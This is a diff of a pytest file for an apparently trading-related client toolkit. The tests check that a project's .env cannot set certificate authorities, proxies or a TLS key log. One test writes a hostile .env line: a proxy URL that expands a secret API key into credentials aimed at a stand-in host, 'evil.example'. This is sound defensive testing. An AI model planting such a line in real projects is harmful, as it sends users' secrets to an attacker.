@@ -131,35 +131,30 @@ def test_authorities_of_a_clone(clone_of, monkeypatch):
     assert tk.AsyncSession(credentials=pair)._below.verify == "system"
 
 
-@pytest.mark.parametrize("name", ["SSL_CERT_FILE", "SSL_CERT_DIR"])
-@pytest.mark.parametrize("verify", [True, "system"])
-def test_authorities_of_openssl(clone_of, monkeypatch, name, verify):
-    """Nor do the variables that OpenSSL reads choose whom it trusts, if a .env sets them; a path in code still does."""
+@pytest.mark.parametrize(
+    ("name", "own"),
+    [
+        *((name, {"verify": "ca.pem"}) for name in ("SSL_CERT_FILE", "SSL_CERT_DIR")),
+        *((name, {"proxy": "http://proxy.example:3128"}) for name in ("HTTPS_PROXY", "https_proxy", "ALL_PROXY")),
+        ("SSLKEYLOGFILE", None),
+    ],
+)
+def test_variables_of_openssl_and_httpx(clone_of, monkeypatch, name, own):
+    """Nor does a .env choose authorities, a proxy, which a secret could be expanded into, or a key log; code does."""
     pair = tk.KeyPair("fake-client-id-1", "fake-Canary-41aB8Qx9", environment="paper")
     clone = clone_of("clone", "service.example")
     monkeypatch.setenv(name, str(clone))
-    assert tk.Session(credentials=pair, verify=verify)._below.verify == verify
-    (clone / ".env").write_text(f"{name}={clone}\n")
-    with pytest.raises(tk.UnsafeAddress, match=name):
-        tk.Session(credentials=pair, verify=verify)
-    assert tk.Session(credentials=pair, verify="ca.pem")._below.verify == "ca.pem"
-
-
-@pytest.mark.parametrize("name", ["HTTPS_PROXY", "https_proxy", "ALL_PROXY", "SSLKEYLOGFILE"])
-def test_who_listens(clone_of, monkeypatch, name):
-    """A .env that the editor exported chooses neither a proxy, which a secret could be expanded into, nor a key log."""
-    pair = tk.KeyPair("fake-client-id-1", "fake-Canary-41aB8Qx9", environment="paper")
-    clone = clone_of("clone", "service.example")
-    monkeypatch.setenv(name, "http://evil.example:3128")
-    for session in (tk.Session, tk.AsyncSession):
-        session(credentials=pair)
+    kinds = [(kind, verify) for kind in (tk.Session, tk.AsyncSession) for verify in (True, "system")]
+    for kind, verify in kinds:
+        kind(credentials=pair, verify=verify)
     (clone / ".env").write_text(f"{name}=http://${{TOOLKIT_PAPER_SECRET_KEY}}:x@evil.example:3128\n")
-    for session in (tk.Session, tk.AsyncSession):
+    for kind, verify in kinds:
         with pytest.raises(tk.UnsafeAddress, match=name.upper()) as caught:
-            session(credentials=pair)
+            kind(credentials=pair, verify=verify)
         assert "evil" not in str(caught.value)
-    if "PROXY" in name.upper():
-        assert tk.Session(credentials=pair, proxy="http://proxy.example:3128")
+    if own is not None:
+        assert tk.Session(credentials=pair, **own)
+    if "PROXY" in name:
         local = tk.Settings({"trading_paper": "http://127.0.0.1:8000"}, project=clone)
         assert tk.Session(credentials=pair, settings=local)
 
